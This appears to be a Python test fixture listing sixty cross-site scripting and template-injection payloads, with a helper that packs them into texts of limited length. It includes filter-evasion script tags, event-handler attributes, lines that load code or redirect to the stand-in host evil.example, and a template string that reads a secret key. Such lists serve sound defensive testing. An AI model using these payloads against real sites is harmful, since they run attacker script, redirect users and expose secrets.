"""Sixty texts that would run, call out or break out of their place if a page took them for more than text."""

from __future__ import annotations

from collections.abc import Iterable

FAR = "http://evil.example"

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=http://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=http://evil.example/i.png>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=http://evil.example/#a />",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=http://evil.example></iframe>",
    "<object data=http://evil.example/x.swf>",
    "<embed src=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/c>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<style>@import url(http://evil.example/s)</style>",
    "<style>*{background:url(http://evil.example/b)}",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<form action=http://evil.example><button>go",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=http://evil.example/a autoplay>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<x-y onclick=alert(1) tabindex=1 autofocus>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "` onerror=alert(1) `",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "${alert(1)}#{7*7}<%= 7*7 %>",
    "{@html '<img src=x onerror=alert(1)>'}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>\u202d",
    "a\u2028alert(1)//\u2029b",
)


def together(payloads: Iterable[str], longest: int) -> list[str]:
    """Return texts of at most so many characters that hold all of these: fewer pages then show as much."""
    texts: list[str] = []
    for payload in payloads:
        if texts and len(texts[-1]) + 1 + len(payload) <= longest:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload[:longest])
    return texts
